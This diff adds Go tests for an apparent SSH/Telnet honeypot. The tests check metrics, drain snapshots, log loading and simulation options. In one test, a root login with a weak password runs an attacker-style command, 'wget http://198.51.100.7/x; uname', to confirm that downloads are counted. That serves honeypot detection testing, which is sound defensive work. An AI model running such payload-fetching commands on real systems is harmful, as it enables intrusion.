@@ -1,0 +1,168 @@
+package honeynet
+
+import (
+	"io"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"honeynet/internal/sessionlog"
+	"honeynet/internal/sshclient"
+)
+
+// TestServeEndToEnd boots a full node with an admin endpoint, drives one
+// SSH session through it, and verifies the scrape and the drain
+// snapshot reflect that session.
+func TestServeEndToEnd(t *testing.T) {
+	logPath := filepath.Join(t.TempDir(), "sessions.jsonl")
+	srv, err := Serve(ServeConfig{
+		SSHAddr:      "127.0.0.1:0",
+		TelnetAddr:   "127.0.0.1:0",
+		AdminAddr:    "127.0.0.1:0",
+		LogPath:      logPath,
+		Timeout:      10 * time.Second,
+		DrainTimeout: 5 * time.Second,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer srv.Close()
+
+	if !strings.Contains(srv.AdminAddr(), ":") {
+		t.Fatalf("admin addr = %q", srv.AdminAddr())
+	}
+	if body := adminGet(t, srv, "/healthz"); body != "ok\n" {
+		t.Errorf("healthz = %q", body)
+	}
+
+	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := cli.Exec("wget http://198.51.100.7/x; uname"); err != nil {
+		t.Fatal(err)
+	}
+	cli.Close()
+
+	// The record lands in the log at session teardown, which races the
+	// client's close; poll for the write before scraping.
+	deadline := time.Now().Add(5 * time.Second)
+	for srv.Log().Written() == 0 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+	}
+
+	metrics := adminGet(t, srv, "/metrics")
+	for _, line := range []string{
+		`honeynet_node_connections_total{proto="ssh"} 1`,
+		`honeynet_node_auth_total{result="ok"} 1`,
+		"honeynet_node_commands_total 1",
+		"honeynet_node_downloads_total 1",
+		"honeynet_sessionlog_written_total 1",
+		"honeynet_guard_active_connections 0",
+		`honeynet_guard_shed_total{reason="per_ip"} 0`,
+		"honeynet_session_duration_seconds_count 1",
+	} {
+		if !strings.Contains(metrics, line) {
+			t.Errorf("metrics missing %q", line)
+		}
+	}
+
+	forced, err := srv.Drain("test")
+	if err != nil {
+		t.Fatalf("drain: %v (forced %d)", err, forced)
+	}
+
+	// The drain snapshot trailer is in the log and carries the counters.
+	f, err := os.Open(logPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	snaps, err := sessionlog.ReadSnapshots(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(snaps) != 1 || snaps[0].Reason != "test" {
+		t.Fatalf("snapshots = %+v", snaps)
+	}
+	if snaps[0].Metrics[`honeynet_node_connections_total{proto="ssh"}`] != 1 {
+		t.Errorf("snapshot counters = %v", snaps[0].Metrics)
+	}
+
+	// The record itself is loadable through the facade.
+	f2, err := os.Open(logPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f2.Close()
+	p, err := Load(f2)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.World.Store.Len() != 1 {
+		t.Errorf("loaded records = %d, want 1", p.World.Store.Len())
+	}
+	if len(p.MissingJoins) == 0 {
+		t.Error("loaded pipeline must flag missing join databases")
+	}
+}
+
+func adminGet(t *testing.T, srv *Server, path string) string {
+	t.Helper()
+	resp, err := http.Get("http://" + srv.AdminAddr() + path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+// TestFunctionalOptionsMatchLegacyStruct: the deprecated SimOptions shim
+// and the new options must configure identical runs.
+func TestFunctionalOptionsMatchLegacyStruct(t *testing.T) {
+	pNew, err := Simulate(WithScale(200000), WithSeed(7), WithWorkers(2))
+	if err != nil {
+		t.Fatal(err)
+	}
+	pOld, err := Simulate(SimOptions{Scale: 200000, Seed: 7})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a, b := pNew.World.Store.Len(), pOld.World.Store.Len()
+	if a != b || a == 0 {
+		t.Fatalf("session counts differ: options=%d struct=%d", a, b)
+	}
+	ra, rb := pNew.World.Store.All(), pOld.World.Store.All()
+	for i := range ra {
+		if ra[i].ClientIP != rb[i].ClientIP || !ra[i].Start.Equal(rb[i].Start) {
+			t.Fatalf("record %d differs between option styles", i)
+		}
+	}
+}
+
+// TestWithObserverRecordsPhases: an attached tracer sees the simulate
+// phases without changing the dataset.
+func TestWithObserverRecordsPhases(t *testing.T) {
+	tr := NewTracer()
+	p, err := Simulate(WithScale(200000), WithSeed(7), WithObserver(tr))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.World.Store.Len() == 0 {
+		t.Fatal("empty simulation")
+	}
+	names := map[string]bool{}
+	for _, ph := range tr.Phases() {
+		names[ph.Name] = true
+	}
+	if !names["simulate"] || !names["simulate.replay"] {
+		t.Errorf("phases = %v", names)
+	}
+}
